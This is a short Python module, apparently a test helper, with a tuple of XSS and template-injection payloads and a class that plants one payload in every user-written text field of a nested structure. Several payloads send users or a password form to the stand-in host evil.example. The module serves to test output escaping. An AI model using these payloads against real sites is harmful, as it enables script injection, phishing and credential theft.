"""Somebody who writes attacks wherever people write."""

PAYLOADS = (
    "<script>alert(7)</script>",
    '"><script>alert(7)</script>',
    "'><img src=x onerror=alert(7)>",
    "<svg/onload=alert(7)>",
    '" onmouseover="alert(7)" x="',
    "' onfocus='alert(7)' autofocus='",
    "</textarea><script>alert(7)</script>",
    "</title><script>alert(7)</script>",
    "</script><script>alert(7)</script>",
    "<!--<script>alert(7)</script>-->",
    "javascript:alert(7)",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<math><mtext><img src=x onerror=alert(7)></mtext></math>",
    "[x](javascript:alert(7)) ![x](https://evil.example/p.gif)",
    "{{ 7*7 }}{% raw %}%(x)s ${7*7} {0}",
    "<a href='data:text/html,<script>alert(7)</script>'>x</a>",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "<object data='https://evil.example/x.swf'></object>",
)


class Pen:
    """Writes one payload after the other, from a place that differs between runs."""

    def __init__(self, start):
        self.place = start

    def word(self, text=""):
        self.place += 1
        return f"{PAYLOADS[self.place % len(PAYLOADS)]} {text}".strip()

    def everywhere(self, value, key=""):
        """The same structure with a payload in every text that people write."""
        if isinstance(value, dict):
            return {name: self.everywhere(inner, name) for name, inner in value.items()}
        if isinstance(value, list):
            return [self.everywhere(item, key) for item in value]
        return self.word(value) if key in {"ky", "ru", "en", "title", "summary", "body"} and value else value
